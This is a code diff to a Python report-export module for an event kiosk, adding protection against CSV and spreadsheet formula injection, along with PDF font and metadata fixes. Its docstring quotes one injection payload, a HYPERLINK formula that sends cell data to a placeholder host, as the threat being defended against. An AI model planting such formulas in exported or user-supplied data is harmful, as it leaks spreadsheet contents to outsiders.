@@ -1,20 +1,35 @@
-"""Reports for the minutes (biên bản) as PDF, CSV or XLSX, from one table of text cells.
+"""Reports for the minutes (biên bản) as PDF, CSV or XLSX, from one table of cells.
 
 Each domain builds a `ReportTable` (kiosk.checkin.report, kiosk.timer.report);
-this module only writes it out. The PDF is set in the badges' Unicode font
-(reportlab's Helvetica has no ơ, ư, đ, ạ…); the CSV carries a byte-order mark so
-that Excel shows the diacritics. No Flask.
+this module only writes it out. No Flask.
+
+- PDF: set in the badges' Unicode font (reportlab's Helvetica has no ơ, ư, đ,
+  ạ…), embedded, with nothing left in Helvetica (not even the page's initial
+  font); title, subject and author (the organiser) in the metadata.
+- CSV: a byte-order mark so that Excel shows the diacritics.
+- Formulas: a cell is either a :class:`Figure` that kiosk computed (a count, a
+  time, a duration such as -00:32), or text, which may come from anyone: a
+  walk-in's name, a desk, a line of the programme. Excel and LibreOffice run a
+  CSV cell that starts with = + - @, tab or CR as a formula
+  (``=HYPERLINK("http://x/?"&A1,"Xem thẻ")`` sends the sheet away), so such text
+  gets a leading single quote in the CSV (the OWASP rule); in the XLSX every
+  cell is written as text (never a formula) and shown exactly as typed, as in
+  the PDF. Figures are written as they are, so times read as times.
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import dataclass, field
+from typing import Self
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.worksheet import Worksheet
 from reportlab.lib import colors
 from reportlab.lib.pagesizes import A4, landscape, portrait
 from reportlab.lib.styles import ParagraphStyle
@@ -25,9 +40,27 @@ from kiosk.badges.fonts import FontSet
 
 FORMATS = {
     "pdf": "application/pdf",
-    "csv": "text/csv; charset=utf-8",
+    # No charset here: Flask's send_file adds "; charset=utf-8" to every text/* type itself.
+    "csv": "text/csv",
     "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
 }
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_FIGURE = re.compile(r"[-+]?[0-9:/., ]*")
+
+
+class Figure(str):
+    """A value kiosk computed, not text anyone typed: digits with : / . , and a sign ("12/120", "-00:32").
+
+    Written as it is in every format. Anything else cannot be a Figure, so no
+    typed text escapes the formula rule by being wrapped in one.
+    """
+
+    __slots__ = ()
+
+    def __new__(cls, value: str) -> Self:
+        if not _FIGURE.fullmatch(value):
+            raise ValueError(f"not a figure: {value!r}")
+        return super().__new__(cls, value)
 
 
 @dataclass(frozen=True)
@@ -43,23 +76,48 @@ class ReportTable:
     # Rows that start a section (e.g. a group), with their text in the first cell:
     # drawn across the whole width, shaded and bold.
     section_rows: frozenset[int] = frozenset()
+    subject: str = ""  # the PDF's metadata: what the report is about (the event)
+    author: str = ""  # and who made it (the organiser)
 
 
 def render(table: ReportTable, fmt: str) -> bytes:
     return {"pdf": _pdf, "csv": _csv, "xlsx": _xlsx}[fmt](table)
 
 
+def csv_cell(value: str) -> str:
+    """Text that a spreadsheet would run as a formula, with a leading quote; figures and other text as they are."""
+    if isinstance(value, Figure) or not value.startswith(FORMULA_STARTS):
+        return value
+    return "'" + value
+
+
 def _csv(table: ReportTable) -> bytes:
     out = io.StringIO()
     writer = csv.writer(out)
-    writer.writerow(table.columns)
-    writer.writerows(table.rows)
+
+    def write(row: list[str] | tuple[str, ...]) -> None:
+        writer.writerow([csv_cell(value) for value in row])
+
+    write(table.columns)
+    for row in table.rows:
+        write(row)
     if table.totals:
-        writer.writerow(table.totals)
+        write(table.totals)
     if table.summary:
         writer.writerow([])
-        writer.writerows(table.summary)
+        for label, value in table.summary:
+            write([label, value])
     return ("\ufeff" + out.getvalue()).encode("utf-8")
+
+
+def _append(sheet: Worksheet, values: list[str] | tuple[str, ...]) -> tuple[Cell, ...]:
+    """A row of text cells, never formulas, shown as typed (less the control characters XLSX cannot hold)."""
+    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value) for value in values])
+    cells: tuple[Cell, ...] = sheet[sheet.max_row]
+    for cell in cells:
+        if cell.value is not None:
+            cell.data_type = "s"  # openpyxl made a formula of "=…"
+    return cells
 
 
 def _xlsx(table: ReportTable) -> bytes:
@@ -67,23 +125,22 @@ def _xlsx(table: ReportTable) -> bytes:
     sheet = book.active
     sheet.title = table.sheet_name
     for line in (table.title, *table.heading):
-        sheet.append([line])
+        _append(sheet, [line])
     sheet["A1"].font = Font(bold=True, size=14)
     sheet.append([])
     for label, value in table.summary:
-        sheet.append([label, value])
+        _append(sheet, [label, value])
     if table.summary:
         sheet.append([])
-    sheet.append(list(table.columns))
+    _append(sheet, table.columns)
     header_row = sheet.max_row
     for index, row in enumerate(table.rows):
-        sheet.append(row)
+        cells = _append(sheet, row)
         if index in table.section_rows:
-            for cell in sheet[sheet.max_row]:
+            for cell in cells:
                 cell.font = Font(bold=True)
     if table.totals:
-        sheet.append(table.totals)
-        for cell in sheet[sheet.max_row]:
+        for cell in _append(sheet, table.totals):
             cell.font = Font(bold=True)
     for cell in sheet[header_row]:
         cell.font = Font(bold=True)
@@ -120,7 +177,7 @@ def _pdf(table: ReportTable) -> bytes:
     if table.summary:
         summary = Table([cells([label, value], body) for label, value in table.summary],
                         colWidths=(60 * mm, 80 * mm), hAlign="LEFT")
-        summary.setStyle(TableStyle([("BOTTOMPADDING", (0, 0), (-1, -1), 1)]))
+        summary.setStyle(TableStyle([("BOTTOMPADDING", (0, 0), (-1, -1), 1), ("FONTNAME", (0, 0), (-1, -1), regular)]))
         story += [summary, Spacer(1, 4 * mm)]
     data = [cells(list(table.columns), strong)]
     data += [cells(row, strong if i in table.section_rows else body) for i, row in enumerate(table.rows)]
@@ -132,6 +189,7 @@ def _pdf(table: ReportTable) -> bytes:
         ("GRID", (0, 0), (-1, -1), 0.4, colors.HexColor("#8a94a3")),
         ("BACKGROUND", (0, 0), (-1, 0), shade),
         ("VALIGN", (0, 0), (-1, -1), "TOP"),
+        ("FONTNAME", (0, 0), (-1, -1), regular),  # a table sets its cells' font even when they hold paragraphs
     ]
     for i in table.section_rows:
         style += [("BACKGROUND", (0, i + 1), (-1, i + 1), shade), ("SPAN", (0, i + 1), (-1, i + 1))]
@@ -142,6 +200,6 @@ def _pdf(table: ReportTable) -> bytes:
     page = landscape(A4) if sum(table.widths_mm) > 190 else portrait(A4)
     out = io.BytesIO()
     SimpleDocTemplate(out, pagesize=page, leftMargin=10 * mm, rightMargin=10 * mm, topMargin=12 * mm,
-                      bottomMargin=12 * mm, title=table.title, author=table.heading[1] if len(table.heading) > 1
-                      else "", creator="kiosk").build(story)
+                      bottomMargin=12 * mm, title=table.title, subject=table.subject, author=table.author,
+                      creator="kiosk", initialFontName=regular).build(story)  # else each page starts in Helvetica
     return out.getvalue()
